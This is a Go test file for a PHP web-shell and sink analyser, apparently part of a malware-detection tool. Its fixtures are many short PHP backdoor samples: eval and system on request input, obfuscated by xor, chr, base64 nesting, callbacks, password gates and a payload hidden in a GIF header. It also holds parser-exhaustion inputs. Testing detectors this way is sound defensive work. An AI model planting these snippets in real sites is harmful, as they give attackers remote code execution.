package php

import (
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/seed-181f3109/assay/fstree"
)

func options() Options {
	return Options{Depth: 64, Steps: 4_000_000, Until: time.Now().Add(20 * time.Second)}
}

// sinkFields returns the sink lines of code as "sink name arg aux via guard".
func sinkFields(t testing.TB, code string) []string {
	t.Helper()
	r := Analyze(t.Context(), []byte(code), false, options())
	if r.Err != nil {
		t.Errorf("%s: %v", code, r.Err)
	}
	var out []string
	for l := range strings.Lines(string(r.Sinks)) {
		if !strings.HasPrefix(l, "sink=") {
			continue
		}
		var f []string
		for _, w := range strings.Fields(l)[:10] {
			k, v, _ := strings.Cut(w, "=")
			if k != "in" && k != "nest" && k != "line" && k != "dec" {
				f = append(f, v)
			}
		}
		out = append(out, strings.Join(f, " "))
	}
	return out
}

func TestSinkLines(t *testing.T) {
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	for _, c := range []struct{ name, code, want string }{
		{"direct", `<?php eval($_POST['a']);`, "code eval request:_POST[a] - direct none"},
		{"concatenated name", `<?php $f='sys'.'tem'; $f($_GET['c']);`, "command system request:_GET[c] - computed:concat none"},
		{"plain variable", `<?php $f='system'; $f($_GET['c']);`, "command system request:_GET[c] - variable none"},
		{"xor", `<?php $f=("!"^"@").("33%2"^"@@@@").("4"^"@"); $f($_GET[1]);`, "code assert request:_GET[1] - computed:xor none"},
		{"xor of equal bits", `<?php $f=("o"^"\x1c").'ystem'; $f($_GET[1]);`, "command system request:_GET[1] - computed:xor none"},
		{"not", `<?php (~"` + string([]byte{0x8c, 0x86, 0x8c, 0x8b, 0x9a, 0x92}) + `")($_GET[1]);`, "command system request:_GET[1] - computed:xor none"},
		{"chr", `<?php $f=chr(101).chr(120).chr(101).chr(99); $f($_GET['x']);`, "command exec request:_GET[x] - computed:chr none"},
		{"escapes", `<?php $f="\x73\171stem"; $f($_COOKIE['k']);`, "command system cookie:_COOKIE[k] - computed:escape none"},
		{"offset", `<?php $k='metsys'; $f=$k[5].$k{4}.$k[3].$k[2].$k[1].$k[0]; $f($_GET['x']);`, "command system request:_GET[x] - computed:offset none"},
		{"strrev", `<?php $f=strrev('metsys'); $f($_GET['x']);`, "command system request:_GET[x] - computed:reverse none"},
		{"str_replace", `<?php $f=str_replace('#','','s#y#st#em'); $f($_GET['x']);`, "command system request:_GET[x] - computed:replace none"},
		{"array elements", `<?php $a=['x'=>'sys',2=>'tem']; $f=$a['x'].$a[2]; $f($_GET['x']);`, "command system request:_GET[x] - computed:concat none"},
		{"increment", `<?php $a='r'; $a++; $f=$a.'ystem'; $f($_GET['x']);`, "command system request:_GET[x] - computed:increment none"},
		{"base64 name", `<?php $f=base64_decode('c3lzdGVt'); $f($_GET['x']);`, "command system request:_GET[x] - computed:decode none"},
		{"sprintf", `<?php $f=sprintf('%s%c%s','sys',116,'em'); $f($_GET['x']);`, "command system request:_GET[x] - computed:chr none"},
		{"implode", `<?php $f=implode('',['sy','stem']); $f($_GET['x']);`, "command system request:_GET[x] - computed:concat none"},
		{"user decoder", `<?php function d($s){$o='';for($i=0;$i<strlen($s);$i++){$o.=chr(ord($s[$i])-1);}return $o;} $f=d('tztufn'); $f($_GET['x']);`, "command system request:_GET[x] - computed:chr none"},
		{"superglobal by name", `<?php $n='_PO'.'ST'; eval(${$n}['x']);`, "code eval request:_POST[x] - direct none"},
		{"name from input", `<?php $_GET['f']($_POST['x']);`, "call ? request:_POST[x] request:_GET[f] input none"},
		{"callback", `<?php array_map('assert', array($_POST['x']));`, "code assert request:_POST[x] - callback:array_map none"},
		{"call_user_func", `<?php call_user_func('sys'.'tem', $_GET['x']);`, "command system request:_GET[x] - computed:concat+callback:call_user_func none"},
		{"usort", `<?php usort($_GET, 'system');`, "command system request:_GET[*] - callback:usort none"},
		{"key as callback argument", `<?php array_intersect_ukey([$_REQUEST['x']=>1],[1],'assert');`, "code assert request:_REQUEST[x] - callback:array_intersect_ukey none"},
		{"shutdown", `<?php register_shutdown_function('system', $_GET['x']);`, "command system request:_GET[x] - callback:register_shutdown_function none"},
		{"output buffer", `<?php ob_start('assert'); echo $_GET['x']; ob_end_flush();`, "code assert request:_GET[x] - callback:ob_start none"},
		{"preg e", `<?php preg_replace('/x/e', $_POST['x'], 'x');`, "code preg_replace request:_POST[x] - preg-e none"},
		{"create_function", `<?php $f=create_function('', $_POST['x']); $f();`, "code create_function request:_POST[x] - create_function none"},
		{"backtick", "<?=`$_GET[1]`;", "command shell_exec request:_GET[1] - backtick none|reveal echo command - direct none"},
		{"destructor", `<?php class A{public $p; function __destruct(){eval($this->p);}} $a=new A; $a->p=$_GET['x'];`, "code eval request:_GET[x] - magic:__destruct none"},
		{"reflection", `<?php $r=new ReflectionFunction('system'); $r->invoke($_GET['x']);`, "command system request:_GET[x] - reflection none"},
		{"stream include", `<?php include 'php://input';`, "include include request:input - stream none"},
		{"extract", `<?php extract($_GET); $f($x);`, "extract extract request:_GET[*] - direct none|call ? request:_GET[*] request:_GET[*] input none"},
		{"parse_str", `<?php parse_str($_SERVER['QUERY_STRING'],$o); eval($o['x']);`, "code eval request:_SERVER[QUERY_STRING] - direct none"},
		{"foreach", `<?php foreach ($_POST as $k=>$v) { eval($v); }`, "code eval request:_POST[*] - direct none"},
		{"header", `<?php system($_SERVER['HTTP_X_A']);`, "command system header:HTTP_X_A - direct none"},
		{"part of text", `<?php system('ping '.$_GET['ip']);`, "command system part-request:_GET[ip] - direct none"},
		{"file write", `<?php file_put_contents($_POST['n'],$_POST['d']);`, "file-write file_put_contents request:_POST[d] request:_POST[n] direct none"},
		{"handle", `<?php $h=fopen($_GET['n'],'w'); fwrite($h,$_POST['d']);`, "file-write fwrite request:_POST[d] request:_GET[n] direct none"},
		{"upload", `<?php move_uploaded_file($_FILES['f']['tmp_name'],$_FILES['f']['name']);`, "upload move_uploaded_file upload:_FILES[f.tmp_name] upload:_FILES[f.name] direct none"},
		{"self", "<?php $c=file_get_contents(__FILE__); eval(substr($c,strpos($c,'#'.'#')+2)); __halt_compiler();##system($_GET['x']);", "code eval self - direct none|command system request:_GET[x] - direct none"},
		{"nested eval", `<?php eval(base64_decode('` + b64(`eval(base64_decode('`+b64(`system($_GET['x']);`)+`'));`) + `'));`,
			"code eval decoded - direct none|code eval decoded - direct none|command system request:_GET[x] - direct none"},
		{"short tag", `<? @eval($_POST[x]);`, "code eval request:_POST[x] - direct none"},
		{"script tag", `<script language="php">eval($_POST['x']);</script>`, "code eval request:_POST[x] - direct none"},
		{"asp tag", `<% eval($_POST['x']); %>`, "code eval request:_POST[x] - direct none"},
		{"in an image", "GIF89a\x00\x01<?php eval($_POST['x']);?>\x00\x01", "code eval request:_POST[x] - direct none"},
		{"broken", `<?php } ]] eval($_POST['x'] ;; )`, "code eval request:_POST[x] - direct none"},
		{"goto", `<?php goto b; a: system($c); goto e; b: $c=$_GET['x']; goto a; e: exit;`, "command system request:_GET[x] - direct none"},
		{"static and constant", `<?php class B{const N='sys'; static $m='tem'; static function f($x){$g=self::N.self::$m; $g($x);}} B::f($_GET['x']);`, "command system request:_GET[x] - computed:concat none"},
		{"closure", `<?php $f=function($x){system($x);}; $f($_GET['x']);`, "command system request:_GET[x] - direct none"},
		{"list", `<?php list($f,$x)=array('system',$_GET['x']); $f($x);`, "command system request:_GET[x] - variable none"},
		{"ternary", `<?php $c=isset($_GET['x'])?$_GET['x']:'id'; system($c);`, "command system request:_GET[x] - direct none"},
		{"comments everywhere", `<?php eval/**/(/*x*/$_POST/**/[/**/'x']/**/);`, "code eval request:_POST[x] - direct none"},

		{"password", `<?php if($_POST['pass']!='s3cret') die(); system($_POST['c']);`, "command system request:_POST[c] - direct password"},
		{"hash", `<?php if(md5($_GET['k'])==='0cc175b9c0f1b6a831c399e269772661') eval($_POST['c']);`, "code eval request:_POST[c] - direct hash"},
		{"whitelist", `<?php if(!in_array($_GET['p'],['a','b'])) exit; include $_GET['p'];`, "include include request:_GET[p] - direct whitelist"},
		{"cast", `<?php $i=(int)$_GET['i']; system("kill $i");`, "command system part-request:_GET[i] - direct cast"},
		{"escape", `<?php system('ls '.escapeshellarg($_GET['d']));`, "command system part-request:_GET[d] - direct escape"},
		{"basename", `<?php readfile('/srv/'.basename($_GET['f']));`, "file-read readfile part-request:_GET[f] - direct basename"},
		{"capability", `<?php if(!current_user_can('manage')) die; system($_POST['c']);`, "command system request:_POST[c] - direct capability"},
		{"defined", `<?php defined('ABSPATH')||exit; system($_POST['c']);`, "command system request:_POST[c] - direct defined"},
		{"session", `<?php if(!isset($_SESSION['in'])) die; system($_POST['c']);`, "command system request:_POST[c] - direct auth"},
		{"elsewhere", `<?php system(clean($_POST['c']));`, "command system request:_POST[c] - direct call"},
		{"parameter", `<?php function run($c){ exec($c); }`, "command exec param - direct none"},

		{"harmless include", `<?php include 'a.php'; require __DIR__.'/b.php';`, ""},
		{"harmless text", `<?php $a=$_GET['x']; echo htmlspecialchars($a);`, ""},
		{"map lookup", `<?php $m=['a'=>'one','b'=>'two']; include $m[$_GET['x']].'.php';`, ""},
		{"constant unserialize", `<?php $x=unserialize('a:0:{}');`, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := strings.Join(sinkFields(t, c.code), "|"); got != c.want {
				t.Errorf("%s\n got %q\nwant %q", c.code, got, c.want)
			}
		})
	}
}

func TestDecodedViews(t *testing.T) {
	inner := `system($_GET['x']);`
	code := `<?php eval(gzinflate(base64_decode('` + base64.StdEncoding.EncodeToString(deflate(inner)) + `')));`
	r := Analyze(t.Context(), []byte(code), false, options())
	if len(r.Decoded) != 1 || r.Decoded[0].Chain != "base64>inflate" || string(r.Decoded[0].Code) != inner {
		t.Errorf("got %+v, want %q by base64>inflate", r.Decoded, inner)
	}
	for _, want := range []string{"decoders=base64,inflate depth=1", "trait=decoded-code\n", "nest=1 line=1"} {
		if !strings.Contains(string(r.Sinks), want) {
			t.Errorf("%q is missing in\n%s", want, r.Sinks)
		}
	}
}

func TestStrings(t *testing.T) {
	r := Analyze(t.Context(), []byte(`<?php $h='192.0'.'.2.1'; $s=fsockopen($h.':'.strrev('3434'),80); eval($_GET['x']);`), false, options())
	if !strings.Contains(string(r.Strings), "192.0.2.1") {
		t.Errorf("got %q, want the joined address", r.Strings)
	}
}

// TestHostile gives sources that are built to take time, memory or stack.
func TestHostile(t *testing.T) {
	rep := strings.Repeat
	nested := "x"
	for range 30 {
		nested = `eval(base64_decode('` + base64.StdEncoding.EncodeToString([]byte(nested)) + `'));`
	}
	for _, c := range []struct {
		name, code string
		limited    bool
	}{
		{"brackets", `<?php eval(` + rep("(", 100_000) + "1" + rep(")", 100_000) + `);`, true},
		{"arrays", `<?php $a=` + rep("[", 100_000) + rep("]", 100_000) + `; eval($_GET[1]);`, true},
		{"blocks", `<?php eval($_GET[1]); ` + rep("{", 100_000) + rep("}", 100_000), true},
		{"concatenation", `<?php $a=1` + rep(".'a'", 1_000_000) + `; eval($a);`, false},
		{"sum", `<?php $a=1` + rep("+1", 200_000) + `; eval($_GET[1].$a);`, true},
		{"members", `<?php eval($a` + rep("->b()", 100_000) + `.$_GET[1]);`, true},
		{"else", `<?php eval($_GET[1]); if(a){}` + rep("elseif(b){}", 20_000), true},
		{"endless loop", `<?php while(true){ $a.='x'; } eval($a);`, false},
		{"counting loop", `<?php for($i=0;$i<1e12;$i++){ $a.=chr($i%255); } eval($a);`, false},
		{"doubling", `<?php $a='aaaa'; for($i=0;$i<60;$i++){$a.=$a;} eval($a);`, false},
		{"recursion", `<?php function f($a){return f($a.'x').f($a.'y');} eval(f('x').$_GET[1]);`, false},
		{"replace bomb", `<?php $a=str_repeat('a',60000); $b=str_replace('a',$a,$a); eval($b);`, false},
		{"nested code", `<?php ` + nested, false},
		{"switch in switch", `<?php eval($_GET[1]); ` + rep("switch($x){case 1:", 1000) + rep("}", 1000), true},
		{"strings", `<?php eval($_GET[1]);` + rep(`"{$a["`, 20_000), false},
		{"variables", `<?php eval(` + rep("$", 100_000) + `a);`, true},
		{"open tags", rep("<?php eval( ?>", 20_000), false},
	} {
		t.Run(c.name, func(t *testing.T) {
			start := time.Now()
			r := Analyze(t.Context(), []byte(c.code), false, options())
			if d := time.Since(start); d > 20*time.Second {
				t.Errorf("took %v", d)
			}
			if c.limited && !errors.Is(r.Err, fstree.ErrLimit) {
				t.Errorf("got error %v, want ErrLimit", r.Err)
			}
		})
	}
}

// TestEveryCutIsRead reads every prefix of a source: nothing may panic or hang.
func TestEveryCutIsRead(t *testing.T) {
	src, err := os.ReadFile("testdata/mixed.php")
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < len(src); i += 3 {
		Analyze(t.Context(), src[:i], false, options())
		Analyze(t.Context(), src[i:], true, options())
	}
}

func FuzzAnalyze(f *testing.F) {
	src, err := os.ReadFile("testdata/mixed.php")
	if err != nil {
		f.Fatal(err)
	}
	f.Add(src)
	f.Add([]byte(`<?php $a=[1,'b'=>2]; foreach($a as $k=>&$v){switch($v){case 1: eval($_GET["{$k[0]}"]);}} goto x; x: ?> <?= $a ?>`))
	f.Add([]byte("<?php class A extends B{use T; const C=1; static $s; function __call($a,$b){return $this->$a(...$b);}} (new A)->x($_POST);"))
	f.Fuzz(func(t *testing.T, b []byte) {
		Analyze(t.Context(), b, false, Options{Depth: 8, Steps: 200_000, Until: time.Now().Add(5 * time.Second)})
	})
}

func ExampleAnalyze() {
	r := Analyze(context.Background(), []byte(`<?php $f = 'sys'.'tem'; $f($_GET['c']);`), false, options())
	for l := range strings.Lines(string(r.Sinks)) {
		if strings.HasPrefix(l, "sink=") {
			fmt.Print(l)
		}
	}
	// Output:
	// sink=command name=system arg=request:_GET[c] aux=- via=computed:concat dec=none guard=none in=top nest=0 line=1 text=-
}

// TestLoopsEnd has loops that no reading brings to an end: the steps must not be
// spent on them, and what is in and behind them is read.
func TestLoopsEnd(t *testing.T) {
	for name, code := range map[string]string{
		"each":              `while (list($k, $v) = each($list)) $s .= $v; system($s . $_GET['a']);`,
		"each, known":       `$list = array('sys', 'tem'); while (list($k, $v) = each($list)) $f .= $v; $f($_GET['a']);`,
		"each of a request": `while (list($k, $v) = each($_GET)) system($v);`,
		"one":               `while (1) { system($_GET['a']); }`,
		"constants":         `while ("a" . "b" == "ab") { system($_GET['a']); }`,
		"words":             `for (var i = text.length; i >= 0; i--) { $x = 1; } system($_GET['a']);`,
		"idle":              `for ($i = 0; $i < 9000000; $i++) { $n = $i; } system($_GET['a']);`,
	} {
		t.Run(name, func(t *testing.T) {
			src := []byte("<?php if ($q) { eval($q); } " + code)
			mem := new(nodes)
			u := parse(src, false, mem)
			in := newInterp(t.Context(), u, mem, Options{Depth: 8, Steps: 4_000_000, Until: time.Now().Add(time.Minute)})
			in.run(u)
			if in.steps > 300_000 {
				t.Errorf("%d steps", in.steps)
			}
			if text := string(in.out.set.Text("")); !strings.Contains(text, "sink=command name=system arg=") || !strings.Contains(text, "request:") {
				t.Errorf("got %s", text)
			}
		})
	}
}
